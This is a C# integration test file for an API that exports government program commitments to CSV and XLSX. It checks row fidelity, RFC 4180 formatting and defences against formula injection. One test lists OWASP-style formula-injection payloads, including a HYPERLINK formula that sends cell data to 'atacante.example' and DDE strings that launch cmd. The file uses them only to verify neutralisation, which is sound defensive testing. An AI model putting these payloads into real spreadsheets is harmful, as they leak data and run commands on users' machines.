using System.Globalization;
using System.IO.Compression;
using System.Net.Http.Headers;
using System.Text;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using CompromisosApi.IntegrationTests.Infrastructure;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Validation;
using Microsoft.AspNetCore.TestHost;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace CompromisosApi.IntegrationTests;

/// <summary>The CSV and the XLSX hold the JSON's rows and texts, and no formula reaches the spreadsheet alive.</summary>
public sealed class ExportacionFilasTests(ApiFactory factory) : PruebaDeExportacion(factory)
{
    /// <summary>Texts that break naive CSV or XML writers, kept verbatim by the record.</summary>
    private static readonly string[] TextosDificiles =
    [
        "Elaborar matriz de marco lógico, revisada y \"concordada\" con DIPRES.",
        "Primera línea\r\nsegunda línea\ny una tercera con ñandú, pingüino y acción",
        "=SUMA(A1:A9) parece una fórmula; <etiqueta> & \"comillas\"",
        "Tabulador\taquí, _x0041_ literal y un control \u0001 al final\r",
        "\"Entre comillas\"",
        "Focalización: sin nada especial",
    ];

    private sealed record Registro(int Agricultura, int Educacion, Dictionary<int, string[]> Contexto);

    /// <summary>
    /// Two ministerios, three programas; per compromiso, the columns the JSON does not carry (programa, servicio,
    /// ministerio, año, número de recomendación), as the test knows them.
    /// </summary>
    private async Task<Registro> RegistroAsync()
    {
        var contexto = new Dictionary<int, string[]>();
        var agricultura = (int)(await Escenario.CrearAsync("/api/v1/ministerios", new { nombre = "Ministerio de Agricultura" }))["id"]!;
        var educacion = (int)(await Escenario.CrearAsync("/api/v1/ministerios", new { nombre = "Ministerio de Educación" }))["id"]!;
        var indap = (int)(await Escenario.CrearAsync("/api/v1/servicios", new { nombre = "Instituto de Desarrollo Agropecuario", ministerioId = agricultura }))["id"]!;
        var junaeb = (int)(await Escenario.CrearAsync("/api/v1/servicios", new { nombre = "Junta Nacional de Auxilio Escolar y Becas", ministerioId = educacion }))["id"]!;

        async Task ProgramaAsync(int servicio, string servicioNombre, string ministerio, string nombre, int anio, string[] textos, string[] vencimientos)
        {
            var p = (int)(await Escenario.CrearAsync("/api/v1/programas", new { nombre, servicioId = servicio, anioEvaluacion = anio, lineaEvaluacion = "EPG" }))["id"]!;
            for (var i = 0; i < textos.Length; i++)
            {
                var numeroRec = i / 2 + 1;
                if (i % 2 == 0) await Escenario.RecomendacionAsync(p, $"Recomendación {numeroRec} sobre focalización");
                var recs = (await Escenario.LeerAsync($"/api/v1/programas/{p}/recomendaciones"))["items"]!.AsArray();
                var rec = (int)recs[numeroRec - 1]!["id"]!;
                var c = (int)(await Escenario.CompromisoAsync(rec, vencimientos[i], textos[i]))["id"]!;
                contexto[c] = [p.ToString(CultureInfo.InvariantCulture), nombre, servicioNombre, ministerio, anio.ToString(CultureInfo.InvariantCulture),
                    numeroRec.ToString(CultureInfo.InvariantCulture)];
            }
        }

        await ProgramaAsync(indap, "Instituto de Desarrollo Agropecuario", "Ministerio de Agricultura", "Redes Pro Rubro, \"MYPIME\"", 2007,
            TextosDificiles[..4], ["2009-12", "2010-06", "2012-12", "2099-12"]);
        await ProgramaAsync(indap, "Instituto de Desarrollo Agropecuario", "Ministerio de Agricultura", "Programa de Riego", 2008,
            TextosDificiles[4..], ["2011-06", "2013-12"]);
        await ProgramaAsync(junaeb, "Junta Nacional de Auxilio Escolar y Becas", "Ministerio de Educación", "Programa de Alimentación Escolar", 2008,
            ["Mejorar la focalización de la alimentación.", "Medir la satisfacción."], ["2010-12", "2014-06"]);

        var ids = contexto.Keys.Order().ToList();
        await Escenario.CalificarOkAsync(ids[0], "Cumplido", "2009-12-31");
        await Escenario.CalificarOkAsync(ids[1], "Cancelado", "2011-12-31", "Se descontinuó.");
        await Escenario.CalificarOkAsync(ids[4], "NoCumplido", "2012-06-30");
        await Escenario.CrearAsync($"/api/v1/compromisos/{ids[5]}/reportes", new { corte = "2013-12-31", texto = "Se capacitó a la focalización." });
        return new Registro(agricultura, educacion, contexto);
    }

    /// <summary>The JSON list, every page (limit 2, to cross pages), as the export's rows.</summary>
    private async Task<List<string[]>> JsonAsync(string filtros, Registro registro)
    {
        var filas = new List<string[]>();
        string? cursor = null;
        do
        {
            var pagina = await Escenario.LeerAsync($"/api/v1/compromisos?limit=2&{filtros}" + (cursor is null ? "" : "&cursor=" + cursor));
            foreach (var c in pagina["items"]!.AsArray())
            {
                var id = (int)c!["id"]!;
                var ctx = registro.Contexto[id];
                Assert.Equal(ctx[0], c["programaId"]!.ToString());
                filas.Add([id.ToString(CultureInfo.InvariantCulture), ctx[0], ctx[1], ctx[2], ctx[3], ctx[4], ctx[5],
                    (string)c["numero"]!, (string)c["texto"]!, (string)c["fechaVencimiento"]!, (string)c["calificacion"]!,
                    (string?)c["fechaCalificacion"] ?? "", (bool)c["vencido"]! ? "true" : "false",
                    (string?)c["tipo"] ?? "", (bool)c["prioritario"]! ? "true" : "false"]);
            }

            cursor = (string?)pagina["nextCursor"];
        }
        while (cursor is not null);

        return filas;
    }

    private static readonly string[] Filtros =
    [
        "",
        "vencidos=true&alCorte=2013-12-31",
        "vencidos=false&alCorte=2013-12-31",
        "calificacion=Pendiente&venceDesde=2010-01",
        "q=focalizacion",
        "q=focalizacion&alCorte=2011-01-01",
    ];

    /// <summary>One record, every filter (alone and with a ministerio), both formats: the same rows as the JSON pages.</summary>
    [Fact]
    public async Task El_CSV_y_el_XLSX_tienen_las_mismas_filas_que_el_JSON_con_los_mismos_filtros()
    {
        var registro = await RegistroAsync();
        foreach (var consulta in Filtros.SelectMany(f => new[] { f, $"{f}&ministerioId={registro.Agricultura}" }))
        {
            var esperado = await JsonAsync(consulta, registro);
            Assert.NotEmpty(esperado);

            var (csv, cuerpoCsv) = await DescargarAsync($"/api/v1/compromisos?formato=csv&{consulta}");
            Assert.Equal("text/csv", csv.Content.Headers.ContentType!.MediaType);
            Assert.Equal("utf-8", csv.Content.Headers.ContentType.CharSet);
            // The one text of the record that starts like a formula goes out neutralised in the CSV only.
            var esperadoCsv = esperado.Select(f => f.Select(v => v.StartsWith('=') ? "'" + v : v).ToArray()).ToList();
            IgualesA(esperadoCsv, LeerCsv(cuerpoCsv), $"csv, {consulta}");

            var (xlsx, cuerpoXlsx) = await DescargarAsync($"/api/v1/compromisos?{consulta}", Xlsx);
            Assert.Equal(Xlsx, xlsx.Content.Headers.ContentType!.MediaType);
            IgualesA(esperado, LeerXlsx(cuerpoXlsx), $"xlsx, {consulta}");
        }

        AfirmarSpreadsheetMLValido((await DescargarAsync("/api/v1/compromisos?formato=xlsx")).Cuerpo);
    }

    private static void IgualesA(List<string[]> esperado, List<string[]> archivo, string caso)
    {
        Assert.True(Encabezados.SequenceEqual(archivo[0]), $"{caso}: encabezados {string.Join(",", archivo[0])}");
        Assert.True(esperado.Count == archivo.Count - 1, $"{caso}: {archivo.Count - 1} filas, se esperaban {esperado.Count}");
        for (var i = 0; i < esperado.Count; i++)
        {
            Assert.True(esperado[i].SequenceEqual(archivo[i + 1]),
                $"{caso}, fila {i + 1}:\n  esperada {string.Join(" | ", esperado[i])}\n  archivo  {string.Join(" | ", archivo[i + 1])}");
        }
    }

    [Fact]
    public async Task El_CSV_sigue_RFC_4180_con_BOM_y_se_descarga_como_adjunto()
    {
        var registro = await RegistroAsync();
        var (r, cuerpo) = await DescargarAsync("/api/v1/compromisos?formato=csv");

        Assert.Equal([0xEF, 0xBB, 0xBF], cuerpo[..3]);
        var texto = Encoding.UTF8.GetString(cuerpo, 3, cuerpo.Length - 3);
        Assert.StartsWith(string.Join(',', Encabezados) + "\r\n", texto, StringComparison.Ordinal);
        Assert.EndsWith("\r\n", texto, StringComparison.Ordinal);
        Assert.Contains("\"Elaborar matriz de marco lógico, revisada y \"\"concordada\"\" con DIPRES.\"", texto, StringComparison.Ordinal);
        Assert.Contains("\"Primera línea\r\nsegunda línea\ny una tercera con ñandú, pingüino y acción\"", texto, StringComparison.Ordinal);
        Assert.Contains(",Focalización: sin nada especial,", texto, StringComparison.Ordinal);
        Assert.Equal(registro.Contexto.Count + 1, LeerCsv(cuerpo).Count);

        var disposicion = r.Content.Headers.ContentDisposition!;
        Assert.Equal("attachment", disposicion.DispositionType);
        Assert.Matches("^compromisos-[0-9]{4}-[0-9]{2}-[0-9]{2}\\.csv$", disposicion.FileName!.Trim('"'));
        Assert.Contains("Accept", r.Headers.Vary);
    }

    /// <summary>The formula-injection texts OWASP lists, through the API: verbatim in JSON and XLSX, inert in the CSV.</summary>
    private static readonly string[] TextosFormula =
    [
        "=HYPERLINK(\"http://atacante.example/?d=\"&A1,\"Ver\")",
        "+56 9 1234 5678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "   =1+1",
        "Texto; =HYPERLINK(\"http://atacante.example\")",
    ];

    [Fact]
    public async Task Una_formula_en_un_texto_no_llega_viva_a_la_planilla()
    {
        var (p, r, _) = await Escenario.CompromisoPendienteAsync();
        foreach (var texto in TextosFormula) await Escenario.CompromisoAsync(r, "2010-12", texto);

        var json = (await Escenario.LeerAsync($"/api/v1/compromisos?programaId={p}&limit=200"))["items"]!.AsArray()
            .Skip(1).Select(c => (string)c!["texto"]!).ToList();
        Assert.Equal(TextosFormula, json);

        var csv = LeerCsv((await DescargarAsync($"/api/v1/compromisos?formato=csv&programaId={p}")).Cuerpo).Skip(2).Select(f => f[8]).ToList();
        Assert.Equal(TextosFormula[..^1].Select(t => "'" + t).Append(TextosFormula[^1]), csv);
        // The semicolon is inside a quoted field, so a spreadsheet that splits on ';' can't start a cell at "=HYPERLINK".
        var crudo = Encoding.UTF8.GetString((await DescargarAsync($"/api/v1/compromisos?formato=csv&programaId={p}")).Cuerpo);
        Assert.Contains(",\"Texto; =HYPERLINK(\"\"http://atacante.example\"\")\",", crudo, StringComparison.Ordinal);

        var xlsx = (await DescargarAsync($"/api/v1/compromisos?formato=xlsx&programaId={p}")).Cuerpo;
        Assert.Equal(TextosFormula, LeerXlsx(xlsx).Skip(2).Select(f => f[8]));
        using var zip = new ZipArchive(new MemoryStream(xlsx), ZipArchiveMode.Read);
        using var hoja = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
        var xml = XDocument.Parse(await hoja.ReadToEndAsync());
        XNamespace ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        Assert.Empty(xml.Descendants(ns + "f"));
        Assert.All(xml.Descendants(ns + "c").Where(c => ((string)c.Attribute("r")!).StartsWith('I')),
            c => Assert.Equal("inlineStr", (string?)c.Attribute("t")));
    }

    [Fact]
    public async Task Sin_filas_el_archivo_solo_trae_encabezados()
    {
        var (_, csv) = await DescargarAsync("/api/v1/compromisos?formato=csv");
        Assert.Equal([Encabezados], LeerCsv(csv));
        var (_, xlsx) = await DescargarAsync("/api/v1/compromisos?formato=xlsx");
        Assert.Equal([Encabezados], LeerXlsx(xlsx));
        AfirmarSpreadsheetMLValido(xlsx);
    }
}
